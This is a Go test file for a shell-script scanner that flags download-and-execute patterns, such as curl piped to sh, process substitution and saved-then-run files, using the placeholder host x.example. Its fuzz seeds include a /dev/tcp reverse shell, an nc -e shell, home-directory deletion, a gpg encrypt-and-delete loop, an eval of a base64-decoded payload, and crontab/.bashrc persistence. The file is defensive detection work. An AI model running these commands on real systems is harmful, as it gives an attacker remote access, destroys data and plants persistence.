package shellscan

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// analyzeCases are scripts and the findings Analyze gives on them, in the
// form of Finding.String.
var analyzeCases = []struct {
	name, src string
	want      []string
}{
	{"pipe", "curl -fsSL https://x.example/i.sh | sh\n",
		[]string{"download-piped-to-shell: curl at line 1 run by sh at line 1"}},
	{"pipe through sudo and bash -s", "wget -qO- https://x.example/i | sudo -E bash -s -- --yes\n",
		[]string{"download-piped-to-shell: wget at line 1 run by bash at line 1"}},
	{"pipe through tee, split over lines", "curl https://x.example/i |\n  tee /tmp/log |\n  /bin/bash\n",
		[]string{"download-piped-to-shell: curl at line 1 run by bash at line 3"}},
	{"pipe into python", "curl -s https://x.example/p.py | python3 -\n",
		[]string{"download-piped-to-shell: curl at line 1 run by python3 at line 1"}},
	{"pipe into a shell that runs -c instead", "curl -s https://x.example/v | sh -c 'read v; echo $v'\n", nil},
	{"pipe into a pager", "curl -s https://x.example/README | less\n", nil},
	{"pipe into a shell script file", "curl -s https://x.example/data | bash ./process.sh\n", nil},
	{"a pipe inside a constant sh -c string, placed at the sh", "echo x\nbash -c 'curl -fsSL https://x.example/i.sh | sh'\neval \"wget -O /tmp/i https://x.example/i; sh /tmp/i\"\n",
		[]string{"download-piped-to-shell: curl at line 2 run by sh at line 2", "download-then-run: wget at line 3 run by sh at line 3 (file /tmp/i)"}},
	{"sh -c substitution", "sh -c \"$(curl -fsSL https://x.example/install.sh)\"\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by sh at line 1"}},
	{"bash process substitution", "bash <(wget -O- https://x.example/i.sh)\n",
		[]string{"download-substituted-into-shell: wget at line 1 run by bash at line 1"}},
	{"eval backquotes", "eval `curl -s https://x.example/env`\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by eval at line 1"}},
	{"source process substitution", "source <(curl -s https://x.example/f)\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by source at line 1"}},
	{"python -c", "python3 -c \"$(curl -s https://x.example/p.py)\"\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by python3 at line 1"}},
	{"bash from a here-string", "bash <<< \"$(curl -s https://x.example/i)\"\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by bash at line 1"}},
	{"bash reads a redirected process substitution", "bash < <(curl -s https://x.example/i)\n",
		[]string{"download-substituted-into-shell: curl at line 1 run by bash at line 1"}},
	{"download as an argument, not code", "bash ./tool.sh \"$(curl -s https://x.example/version)\"\n", nil},
	{"echo of a substitution", "echo \"$(curl -s https://x.example/ip)\"\n", nil},
	{"curl -o then sh", "curl -fsSL -o /tmp/i.sh https://x.example/i.sh\nsh /tmp/i.sh\n",
		[]string{"download-then-run: curl at line 1 run by sh at line 2 (file /tmp/i.sh)"}},
	{"clustered -sSLo and &&", "curl -sSLo i.sh https://x.example/i.sh && bash ./i.sh\n",
		[]string{"download-then-run: curl at line 1 run by bash at line 1 (file i.sh)"}},
	{"curl -O runs the URL's name", "curl -O https://x.example/dl/setup.sh?v=2\nchmod +x setup.sh\n./setup.sh\n",
		[]string{"download-then-run: curl at line 1 run by ./setup.sh at line 3 (file setup.sh)"}},
	{"wget default name, source", "wget https://x.example/env.sh\n. ./env.sh\n",
		[]string{"download-then-run: wget at line 1 run by . at line 2 (file env.sh)"}},
	{"redirect and a variable path", "curl -s https://x.example/p > \"$TMPDIR/p.py\"\nsudo python3 \"$TMPDIR/p.py\"\n",
		[]string{"download-then-run: curl at line 1 run by python3 at line 2 (file $TMPDIR/p.py)"}},
	{"the file run as a command by variable path", "f=/tmp/x\ncurl -o \"$f\" https://x.example/x\nchmod +x \"$f\"\n\"$f\"\n",
		[]string{"download-then-run: curl at line 2 run by $f at line 4 (file $f)"}},
	{"inside a function and an if", "setup() {\n  if true; then\n    curl -o /tmp/s https://x.example/s\n  fi\n  bash /tmp/s\n}\n",
		[]string{"download-then-run: curl at line 3 run by bash at line 5 (file /tmp/s)"}},
	{"downloaded file only read", "curl -o data.json https://x.example/d.json\njq . data.json\n", nil},
	{"a different file run", "curl -o a.sh https://x.example/a.sh\nbash b.sh\n", nil},
	{"run before the download", "bash i.sh\ncurl -o i.sh https://x.example/i.sh\n", nil},
	{"wget to stdout is not a file", "wget -O - https://x.example/i.sh > /dev/null\nsh i.sh\n", nil},
	{"in a comment", "# curl https://x.example/i.sh | sh\necho ok\n", nil},
	{"in a string", "echo 'curl https://x.example/i.sh | sh'\n", nil},
	{"in a here-document", "cat <<'EOF'\ncurl https://x.example/i.sh | sh\nEOF\n", nil},
	{"two findings in line order", "bash <(curl -s https://x.example/a)\ncurl https://x.example/b | zsh\n",
		[]string{
			"download-substituted-into-shell: curl at line 1 run by bash at line 1",
			"download-piped-to-shell: curl at line 2 run by zsh at line 2",
		}},
}

func TestAnalyze(t *testing.T) {
	for _, tc := range analyzeCases {
		t.Run(tc.name, func(t *testing.T) {
			sc, err := Analyze([]byte(tc.src), "t.sh")
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			got := make([]string, 0, len(sc.Findings))
			for _, f := range sc.Findings {
				got = append(got, f.String())
			}
			if !slices.Equal(got, tc.want) && len(got)+len(tc.want) > 0 {
				t.Errorf("findings\n got: %q\nwant: %q", got, tc.want)
			}
		})
	}
}

func TestAnalyzeSavesAndRuns(t *testing.T) {
	src := "curl -fsSLo /tmp/a https://x.example/a\nwget -q https://x.example/dl/b.py\ncurl https://x.example/c > \"$HOME/c\"\n" +
		"python3 -u b.py --flag\n. /etc/profile\n./tools/run.sh\nbash -c 'echo not a file'\n"
	sc, err := Analyze([]byte(src), "t.sh")
	if err != nil {
		t.Fatal(err)
	}
	wantSaves := []FileUse{{"/tmp/a", "curl", 1}, {"b.py", "wget", 2}, {"$HOME/c", "curl", 3}}
	wantRuns := []FileUse{{"b.py", "python3", 4}, {"/etc/profile", ".", 5}, {"./tools/run.sh", "./tools/run.sh", 6}}
	if !slices.Equal(sc.Saves, wantSaves) {
		t.Errorf("Saves\n got: %+v\nwant: %+v", sc.Saves, wantSaves)
	}
	if !slices.Equal(sc.Runs, wantRuns) {
		t.Errorf("Runs\n got: %+v\nwant: %+v", sc.Runs, wantRuns)
	}
	if want := "download-then-run: wget at line 2 run by python3 at line 4 (file b.py)"; len(sc.Findings) != 1 || sc.Findings[0].String() != want {
		t.Errorf("Findings = %v, want [%s]", sc.Findings, want)
	}
}

func TestAcross(t *testing.T) {
	scripts := map[string]*Script{}
	for name, src := range map[string]string{
		"scripts/setup.sh":  "mkdir -p /tmp/w\ncurl -fsSL -o /tmp/w/agent.py https://x.example/agent.py\n",
		"scripts/run.sh":    "cd /tmp/w\npython3 /tmp/w/agent.py --serve\n",
		"scripts/self.sh":   "curl -o x.sh https://x.example/x.sh\nsh x.sh\n",
		"scripts/other.sh":  "bash ./x.sh\n",
		"scripts/unrelated": "sh /tmp/w/other.py\n",
	} {
		sc, err := Analyze([]byte(src), name)
		if err != nil {
			t.Fatal(err)
		}
		scripts[name] = sc
	}
	var got []string
	for _, c := range Across(scripts) {
		got = append(got, c.String())
	}
	want := []string{
		"download-then-run: scripts/self.sh:1 saves x.sh (curl), scripts/other.sh:1 runs it (bash)",
		"download-then-run: scripts/setup.sh:2 saves /tmp/w/agent.py (curl), scripts/run.sh:2 runs it (python3)",
	}
	if !slices.Equal(got, want) {
		t.Errorf("Across\n got: %q\nwant: %q", got, want)
	}
}

func TestAnalyzeParseError(t *testing.T) {
	_, err := Analyze([]byte("echo $(\n"), "bad.sh")
	if !errors.Is(err, ErrParse) {
		t.Fatalf("err = %v, want ErrParse", err)
	}
	if !strings.Contains(err.Error(), "bad.sh:") {
		t.Errorf("err = %v, want the file name and position", err)
	}
}

func TestURLName(t *testing.T) {
	for in, want := range map[string]string{
		"https://x.example/a/b/setup.sh?x=1#f": "setup.sh",
		"https://x.example":                    "",
		"x.example/i.sh":                       "i.sh",
	} {
		if got := urlName(in); got != want {
			t.Errorf("urlName(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzAnalyze holds Analyze to its contract on any input: no panic, an
// error that is ErrParse or nothing, and findings whose lines are within the
// script, the download never after the command that runs it.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"curl -fsSL https://x.example/i.sh | sh\n",
		"sh -c \"$(curl -fsSL https://x.example/i.sh)\"\n",
		"curl -sSLo i.sh https://x.example/i.sh && bash ./i.sh\n",
		"bash -i >& /dev/tcp/192.0.2.7/1 0>&1\n",
		"D=~\nrm -rf \"$D\"/*\n",
		"for f in $(find ~ -type f); do gpg -c \"$f\"; rm \"$f\"; done\n",
		"eval \"$(echo ZWNobw== | base64 -d)\"\n",
		"sh -c 'sh -c \"nc -e /bin/sh h 1\"'\n",
		"echo x >> ~/.bashrc; (crontab -l; echo y) | crontab -\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		sc, err := Analyze(src, "fuzz.sh")
		if err != nil {
			if !errors.Is(err, ErrParse) {
				t.Fatalf("error is not ErrParse: %v", err)
			}
			return
		}
		lines := strings.Count(string(src), "\n") + 1
		for _, fd := range sc.Findings {
			if fd.DownloadLine < 1 || fd.RunLine > lines || fd.DownloadLine > fd.RunLine {
				t.Fatalf("finding %v outside the script's %d lines", fd, lines)
			}
		}
		for i, th := range sc.Threats {
			if th.Line < 1 || th.Line > lines || th.From > lines || th.Detail == "" || th.Rule == "" ||
				i > 0 && sc.Threats[i-1].Line > th.Line {
				t.Fatalf("threat %v outside the script's %d lines, empty or out of order", th, lines)
			}
		}
		for _, u := range append(slices.Clone(sc.Saves), sc.Runs...) {
			if u.Line < 1 || u.Line > lines || u.File == "" || u.Command == "" {
				t.Fatalf("file use %+v outside the script's %d lines or empty", u, lines)
			}
		}
	})
}

// TestAcrossOnePerRun: a run is reported once, with the first script by name
// that saves its file and that script's first save, however many save it.
func TestAcrossOnePerRun(t *testing.T) {
	scripts := map[string]*Script{}
	for name, src := range map[string]string{
		"b.sh": "curl -o /tmp/p u\ncurl -o /tmp/p v\n",
		"a.sh": "echo\nwget -O /tmp/p u\n",
		"c.sh": "sh /tmp/p\nsh /tmp/p\n",
	} {
		sc, err := Analyze([]byte(src), name)
		if err != nil {
			t.Fatal(err)
		}
		scripts[name] = sc
	}
	var got []string
	for _, c := range Across(scripts) {
		got = append(got, c.String())
	}
	want := []string{
		"download-then-run: a.sh:2 saves /tmp/p (wget), c.sh:1 runs it (sh)",
		"download-then-run: a.sh:2 saves /tmp/p (wget), c.sh:2 runs it (sh)",
	}
	if !slices.Equal(got, want) {
		t.Errorf("Across\n got: %q\nwant: %q", got, want)
	}
}
